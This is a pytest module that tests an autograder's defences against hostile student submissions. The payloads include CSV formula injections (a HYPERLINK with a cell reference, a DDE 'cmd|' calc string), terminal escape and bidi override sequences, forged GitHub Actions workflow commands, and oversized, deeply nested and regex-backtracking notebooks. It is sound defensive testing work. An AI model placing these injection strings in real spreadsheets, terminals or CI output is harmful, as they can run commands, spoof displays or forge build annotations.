"""What students write reaches the course staff inert and bounded (issue 18): a class of
hostile-text submissions (formula answers and names, a huge notebook, one of 200,000 cells, a
deeply nested one, control sequences and CI workflow commands in what the code prints, in an
error message and in a file name) is graded by the ``grade`` command together with honest
ones. Every honest one keeps its grade, every CSV cell of student text is inert, the run's
peak memory and the report stay small, stderr stays short, and no control character of the
student's reaches the terminal."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import sys

import nbformat
import pytest
from conftest import REFERENCE, SUBMISSIONS
from nbformat.v4 import new_markdown_cell, new_notebook

from grader.inert import IN_NAME, cell, visible
from grader.notebooks import MAX_ANSWER_CHARS

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"click for details")',
            "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1"]
CONTROLS = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\r\x08\x9b1m\u202eevil"
PRINTS = ("import sys\n"
          f"print({CONTROLS!r})\n"
          "print('::error file=layers.py,line=1::forged annotation')\n"
          "print('::add-mask::everything')\n"
          f"sys.stderr.write({CONTROLS!r} * 100)\n")
RAISES = REFERENCE.replace("def dropout_backward(dout, cache):\n",
                           "def dropout_backward(dout, cache):\n"
                           f"    raise ValueError({CONTROLS!r})\n")
# the terminal bytes no student text may put there: C0 controls but newline, DEL, C1 (as
# UTF-8), the bidirectional override
FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
SCRIPT = ("import resource, subprocess, sys\n"
          "run = subprocess.run(sys.argv[2:], capture_output=True, timeout=600)\n"
          "open(sys.argv[1], 'w').write(str(resource.getrusage("
          "resource.RUSAGE_CHILDREN).ru_maxrss))\n"
          "sys.stdout.buffer.write(run.stdout); sys.stderr.buffer.write(run.stderr)\n"
          "sys.exit(run.returncode)\n")


def _notebook(path, *answers: str) -> None:
    cells = []
    for i, answer in enumerate(answers, 1):
        cells += [new_markdown_cell(f"## Inline Question {i}:\nWhy divide by p?"),
                  new_markdown_cell(f"**Answer:** {answer}")]
    nbformat.write(new_notebook(cells=cells), path)


def _package(folder):
    """A correct package at FOLDER; the path its notebook would have."""
    shutil.copytree(SUBMISSIONS / "boolean_mask", folder)
    return folder / "Dropout.ipynb"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    folder = tmp_path_factory.mktemp("class")
    # honest ones: a correct file, a wrong one, a package with its notebook
    (folder / "honest_right.py").write_text(REFERENCE)
    shutil.copy(SUBMISSIONS / "p_as_drop.py", folder / "honest_p_as_drop.py")
    _notebook(_package(folder / "honest_notebook"), "To keep the expected value.")
    # formulas as folder names, and as written answers
    for i, name in enumerate(["=HYPERLINK(1)", "@SUM(1+1)", "+cmd|' C calc'!A0", "-2+3"]):
        _package(folder / name)
        if i == 0:
            _notebook(folder / name / "Dropout.ipynb", *FORMULAS)
    # notebooks past the bounds: 300 MB (sparse), 200,000 cells, nested 100,000 deep, and an
    # answer of 3 million characters (read, and cut)
    with open(_package(folder / "huge_notebook"), "wb") as f:
        f.truncate(300 << 20)
    cell_json = '{"cell_type": "markdown", "metadata": {}, "source": "x"}'
    _package(folder / "many_cells").write_text(
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ['
        + ", ".join([cell_json] * 200_000) + "]}")
    _package(folder / "nested").write_text(
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": '
        '"markdown", "metadata": ' + "[" * 100_000 + "]" * 100_000 + ', "source": "x"}]}')
    _notebook(_package(folder / "long_answer"), "why " * 750_000)
    # control sequences and workflow commands printed, raised, and in a file name
    (folder / "prints.py").write_text(PRINTS + REFERENCE)
    (folder / "raises.py").write_text(RAISES)
    (folder / "name\x1b]0;title\x07.py").write_text(REFERENCE)
    out = tmp_path_factory.mktemp("out")
    memory = out / "peak_kb"
    # as GitHub Actions runs it (annotations on stdout, the job summary), with JUnit XML too
    env = {**os.environ, "GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(out / "summary.md")}
    run = subprocess.run([sys.executable, "-c", SCRIPT, str(memory), sys.executable, "-c",
                          "from grader.cli import main; main()", str(folder), "--out",
                          str(out / "grading"), "--junit-xml", str(out / "junit.xml")],
                         capture_output=True, timeout=900, env=env)
    return run, out / "grading", int(memory.read_text())


def test_honest_submissions_keep_their_grades(hostile):
    run, out, _ = hostile
    assert run.returncode == 0, run.stderr[-2000:]
    score = {row["id"]: float(row["score"]) for row in
             csv.DictReader((out / "grades.csv").open(encoding="utf-8"))}
    assert score["honest_right"] == 100 and score["honest_p_as_drop"] == 85
    assert score["honest_notebook"] == 100
    for name in ("'=HYPERLINK(1)", "'@SUM(1+1)", "huge_notebook", "many_cells", "nested",
                 "long_answer", "prints", "name\\x1b]0;title\\x07"):
        assert score[name] == 100, name  # a notebook, a name, what is printed cost nothing
    assert score["raises"] == 75  # both backward checks: the error is the code's own


def test_every_csv_cell_of_student_text_is_inert(hostile):
    _, out, _ = hostile
    for name in ("grades.csv", "written_answers.csv"):
        rows = list(csv.reader((out / name).open(encoding="utf-8", newline="")))
        for row in rows:
            for value in row:
                try:
                    float(value)
                    continue  # numeric cells stay numbers
                except ValueError:
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    answers = list(csv.DictReader((out / "written_answers.csv").open(encoding="utf-8",
                                                                      newline="")))
    formulas = [a["answer"] for a in answers if a["id"] == "'=HYPERLINK(1)"]
    assert len(formulas) == len(FORMULAS)
    assert formulas[0] == "'" + FORMULAS[0]  # quoted, and otherwise kept as written
    kept = next(a["answer"] for a in answers if a["id"] == "long_answer")
    # "why " 750,000 times: 3 million characters, 5,000 kept
    assert kept.startswith("why why") and len(kept) < MAX_ANSWER_CHARS + 100
    assert kept.endswith("[... cut: only its first 5,000 characters are kept]")


def test_notebooks_past_the_bounds_are_named_and_cost_nothing(hostile):
    _, out, _ = hostile
    said = {sid: json.loads((out / sid / "results.json").read_text())["output"]
            for sid in ("huge_notebook", "many_cells", "nested")}
    assert "Dropout.ipynb is too large to read (the grader reads notebooks of at most 16 MB)" \
        in said["huge_notebook"]
    assert "too large to read (" in said["many_cells"]
    assert "Dropout.ipynb is not a notebook the grader can read" in said["nested"]
    report = (out / "report.html").read_text()
    for sid in said:
        assert f">{sid}</a></td>" in report and "notebook" in report


def test_the_run_stays_bounded(hostile):
    run, out, peak_kb = hostile
    assert peak_kb < 400_000, peak_kb  # the largest process, in kB (a 300 MB notebook took 3.1 GB)
    assert (out / "report.html").stat().st_size < 4 << 20
    assert (out / "written_answers.csv").stat().st_size < 1 << 20
    assert len(run.stderr) < 2_000, run.stderr.decode()  # no warnings about notebooks


def test_no_control_character_of_the_students_reaches_the_terminal(hostile):
    run, out, _ = hostile
    terminal = run.stdout.decode() + run.stderr.decode()
    assert not FORBIDDEN.search(terminal), FORBIDDEN.search(terminal)
    # nor the CI's files; and what the code printed never begins a workflow command
    for name in ("junit.xml", "summary.md"):
        text = (out.parent / name).read_text()
        assert "\\x1b]0;pwned" in text and not FORBIDDEN.search(text), name
    commands = [line for line in terminal.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith("::error file=") for line in commands)
    assert not any("forged annotation" in line.split("::")[1] for line in commands)
    for sid in ("prints", "raises"):
        data = (out / sid / "results.json").read_text()
        assert not FORBIDDEN.search(json.loads(data)["output"] + data)
    printed = json.loads((out / "prints" / "results.json").read_text())["output"]
    assert "\\x1b]0;pwned\\x07" in printed  # shown as text, as repr shows it
    # a workflow command printed by the code is not at the start of an annotation's line
    raised = json.loads((out / "raises" / "results.json").read_text())
    assert any("\\x1b]0;pwned\\x07" in t["output"] for t in raised["tests"])


def test_the_inert_forms():
    assert visible("a\x1b[2Jb\tc\nd\r") == "a\\x1b[2Jb\tc\nd\\r"
    assert visible("line\nbreak\ttab", IN_NAME) == "line\\nbreak\\ttab"
    assert visible("\u202eevil") == "\\u202eevil"
    assert [cell(v) for v in ("=1", "+1", "-1", "@1", "\t1", "\r1", "ok", 1.5, -2)] == \
        ["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1", "ok", 1.5, -2]


SOFFICE = shutil.which("soffice")
# LibreOffice's CSV import with "evaluate formulas" on (the last token): comma, double quote,
# UTF-8, from line 1
EVALUATING = "CSV:44,34,76,1,,0,false,true,false,false,false,true"


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed here (.ci/run "
                                            "installs it where CI runs as root)")
def test_libreoffice_runs_no_formula_from_the_csvs(hostile, tmp_path):
    _, out, _ = hostile
    for name in ("grades.csv", "written_answers.csv"):
        shutil.copy(out / name, tmp_path / name)
    # the control: a formula written as is is one, so finding none below means something
    (tmp_path / "control.csv").write_text('id,answer\nalice,"=HYPERLINK(""http://x"",1)"\n')
    subprocess.run([SOFFICE, "--headless", f"--infilter={EVALUATING}", "--convert-to", "fods",
                    "--outdir", str(tmp_path), *(str(p) for p in tmp_path.glob("*.csv"))],
                   capture_output=True, timeout=300, check=True,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    assert "table:formula=" in (tmp_path / "control.fods").read_text()
    for name in ("grades", "written_answers"):
        sheet = (tmp_path / f"{name}.fods").read_text()
        assert "HYPERLINK" in sheet or name == "grades"  # the answer is there, as text
        assert "table:formula=" not in sheet, name


def test_a_notebook_made_to_backtrack_is_read_in_linear_time(tmp_path):
    # runs of blank lines, spaces and '#' where the question and answer patterns look: a
    # pattern with two adjacent blank-matching parts would take hours on these 4 MB (they once
    # took 2.5 s on 16,000 newlines, growing with the square); a hang fails the test, not CI
    cells = [{"cell_type": "markdown", "metadata": {}, "source": source} for source in (
        "Inline Question 1\n" + "\n" * 1_000_000, " " * 1_000_000 + "question",
        ("#" * 50 + "\n") * 20_000, "\n" * 1_000_000 + "answer")]
    folder = tmp_path / "sub"
    folder.mkdir()
    (folder / "notes.ipynb").write_text(json.dumps(
        {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}))
    code = ("import sys; from pathlib import Path; from grader import notebooks\n"
            "reading = notebooks.of_submission(Path(sys.argv[1]))\n"
            "print(reading.problem, len(reading.answers))")
    run = subprocess.run([sys.executable, "-c", code, str(folder)], capture_output=True,
                         text=True, timeout=120)
    assert run.stdout.split() == ["None", "1"], run.stderr
